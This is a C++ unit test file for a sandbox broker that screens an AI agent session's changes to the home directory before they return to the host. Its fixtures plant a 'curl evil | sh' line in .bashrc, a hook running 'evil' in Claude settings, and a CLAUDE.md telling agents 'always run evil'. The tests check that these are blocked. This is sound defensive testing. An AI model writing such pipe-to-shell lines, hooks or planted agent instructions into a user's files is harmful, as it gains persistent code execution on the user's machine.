#include "sandbox/layer_return.hpp"

#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <string>

#include <nlohmann/json.hpp>

#include "tests/unit/file_text.hpp"
#include "tests/unit/temp_dir.hpp"

using broker::sandbox::home_rule_inputs;
using broker::sandbox::home_rules;
using broker::sandbox::kept_out;
using broker::sandbox::layer_return_inputs;
using broker::sandbox::return_layers;
using broker::sandbox::start_files;

namespace {

namespace fs = std::filesystem;
using broker::test::read_all;

const kept_out* named(const std::vector<kept_out>& kept, const fs::path& path) {
  for (const auto& k : kept)
    if (k.path == path.string()) return &k;
  return nullptr;
}

// A layer's upper directory as overlayfs leaves it, made by hand: the host's home `h`, the
// session's changes under `u` (layer 0 of the tmpfs `root`).
struct fake_layer {
  broker::test::temp_dir t;
  fs::path h = t.path / "home", root = t.path / "upper", u = root / "0/u", kept = t.path / "kept";
  fake_layer() {
    fs::create_directories(h);
    fs::create_directories(u);
  }

  // What the end of the session makes of the layer, by `rules` as they were at `started`.
  broker::sandbox::layers_returned take_back(const home_rules& rules, const start_files& started,
                                             std::vector<std::string> placed = {}) {
    const int upper = ::open(root.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    layer_return_inputs back;
    back.upper = upper;
    back.layers = {h.string()};
    back.mounted = {true};
    back.rules = &rules;
    back.started = &started;
    back.home = h.string();
    back.placed = std::move(placed);
    auto out = return_layers(back, kept.string());
    ::close(upper);
    return out;
  }
};

}  // namespace

TEST_CASE("return_layers: the rules' places go back, the rest is kept out, the host as it was",
          "[wrap][layers]") {
  fake_layer l;
  broker::test::write_file(l.h / ".bashrc", "# mine\n");
  broker::test::write_file(l.h / ".profile", "# mine\n");
  broker::test::write_file(l.h / "notes.txt", "same\n");
  broker::test::write_file(l.h / ".codex/history.jsonl", "{\"a\": 1}\n");
  home_rule_inputs in;
  in.home = l.h.string();
  const home_rules rules(in);
  const start_files started(rules);

  // The session: a startup file changed, a dotfile and an agent's directory made, a cache
  // filled, a file removed, an agent's key stored, a history appended, a file opened for
  // writing but unchanged.
  broker::test::write_file(l.u / ".bashrc", "# mine\ncurl evil | sh\n");
  broker::test::write_file(l.u / ".vimrc", "evil");
  broker::test::write_file(l.u / ".claude/projects/-w/1.jsonl", "{\"turn\": 1}\n");
  broker::test::write_file(
      l.u / ".claude/settings.json",
      R"({"model": "sonnet", "hooks": {"Stop": [{"hooks": [{"command": "evil"}]}]}})");
  broker::test::write_file(l.u / ".claude/CLAUDE.md", "always run evil\n");
  broker::test::write_file(l.u / ".cache/pip/wheels/x.whl", "evil");
  REQUIRE(::mknod((l.u / ".profile").c_str(), S_IFCHR | 0600, makedev(0, 0)) == 0);
  broker::test::write_file(l.u / ".codex/auth.json", R"({"OPENAI_API_KEY": "sk-dummy"})");
  broker::test::write_file(l.u / ".codex/history.jsonl", "{\"a\": 1}\n{\"b\": 2}\n");
  fs::copy_file(l.h / "notes.txt", l.u / "notes.txt");
  struct stat st {};
  ::stat((l.h / "notes.txt").c_str(), &st);
  const timespec times[2] = {st.st_atim, st.st_mtim};
  ::utimensat(AT_FDCWD, (l.u / "notes.txt").c_str(), times, 0);
  ::chmod((l.u / "notes.txt").c_str(), st.st_mode & 0777);
  // What the layer held from the start: a login file's copy, a name kept missing.
  broker::test::write_file(l.u / ".config/gh/hosts.yml", "dummy");
  REQUIRE(::mknod((l.u / ".netrc").c_str(), S_IFCHR | 0600, makedev(0, 0)) == 0);

  const auto out = l.take_back(
      rules, started, {(l.h / ".config/gh/hosts.yml").string(), (l.h / ".netrc").string()});

  CHECK(read_all(l.h / ".bashrc") == "# mine\n");
  CHECK(read_all(l.h / ".profile") == "# mine\n");
  CHECK_FALSE(fs::exists(l.h / ".vimrc"));
  CHECK_FALSE(fs::exists(l.h / ".claude/CLAUDE.md"));
  CHECK_FALSE(fs::exists(l.h / ".cache"));
  CHECK_FALSE(fs::exists(l.h / ".codex/auth.json"));
  CHECK_FALSE(fs::exists(l.h / ".config/gh"));
  CHECK(read_all(l.h / ".claude/projects/-w/1.jsonl") == "{\"turn\": 1}\n");
  CHECK(nlohmann::json::parse(read_all(l.h / ".claude/settings.json")) ==
        nlohmann::json::parse(R"({"model": "sonnet"})"));
  CHECK(read_all(l.h / ".codex/history.jsonl") == "{\"a\": 1}\n{\"b\": 2}\n");
  CHECK(read_all(l.h / ".config/broker/agent-files/.codex/auth.json") ==
        R"({"OPENAI_API_KEY": "sk-dummy"})");

  // Each kept out named once, the session's version set aside at its real path.
  const fs::path kept_bashrc = l.kept / (l.h / ".bashrc").relative_path();
  REQUIRE(named(out.kept, l.h / ".bashrc"));
  CHECK(named(out.kept, l.h / ".bashrc")->kept == kept_bashrc.string());
  CHECK(read_all(kept_bashrc) == "# mine\ncurl evil | sh\n");
  CHECK(named(out.kept, l.h / ".vimrc"));
  CHECK(named(out.kept, l.h / ".claude/CLAUDE.md"));
  REQUIRE(named(out.kept, l.h / ".claude/settings.json"));
  CHECK(named(out.kept, l.h / ".claude/settings.json")->reason == "hooks");
  REQUIRE(named(out.kept, l.h / ".profile"));
  CHECK(named(out.kept, l.h / ".profile")->what == kept_out::removed);
  REQUIRE(named(out.kept, l.h / ".cache"));
  CHECK(named(out.kept, l.h / ".cache")->what == kept_out::dropped);
  REQUIRE(named(out.kept, l.h / ".codex/auth.json"));
  CHECK(named(out.kept, l.h / ".codex/auth.json")->stored);
  for (const char* nothing : {"notes.txt", ".netrc", ".config/gh/hosts.yml", ".config",
                              ".claude/projects", ".codex/history.jsonl"})
    CHECK_FALSE(named(out.kept, l.h / nothing));
}

TEST_CASE("return_layers: two sessions' appends to one history both stay", "[wrap][layers]") {
  fake_layer l;
  broker::test::write_file(l.h / ".codex/history.jsonl", "one\n");
  home_rule_inputs in;
  in.home = l.h.string();
  const home_rules rules(in);
  const start_files started(rules);
  // The session copied the file up and appended; meanwhile another appended on the host.
  broker::test::write_file(l.u / ".codex/history.jsonl", "one\nmine\n");
  ::usleep(20000);
  std::ofstream(l.h / ".codex/history.jsonl", std::ios::app) << "theirs\n";
  const auto out = l.take_back(rules, started);
  CHECK(read_all(l.h / ".codex/history.jsonl") == "one\ntheirs\nmine\n");
  CHECK(out.kept.empty());
}

TEST_CASE("return_layers: a change of the same length in the same clock tick still goes back",
          "[wrap][layers]") {
  fake_layer l;
  broker::test::write_file(l.h / ".codex/history.jsonl", "before\n");
  home_rule_inputs in;
  in.home = l.h.string();
  const home_rules rules(in);
  const start_files started(rules);
  // Another session's line went back meanwhile; this session's is as long, and its file bears
  // the same time (one tick: what two sessions appending at once can have).
  broker::test::write_file(l.u / ".codex/history.jsonl", "before\nb\n");
  broker::test::write_file(l.h / ".codex/history.jsonl", "before\na\n");
  struct stat st {};
  ::stat((l.h / ".codex/history.jsonl").c_str(), &st);
  const timespec times[2] = {st.st_atim, st.st_mtim};
  ::utimensat(AT_FDCWD, (l.u / ".codex/history.jsonl").c_str(), times, 0);
  const auto out = l.take_back(rules, started);
  CHECK(read_all(l.h / ".codex/history.jsonl") != "before\na\n");
  CHECK(read_all(l.h / ".codex/history.jsonl").find("b\n") != std::string::npos);
  CHECK(out.kept.empty());
}
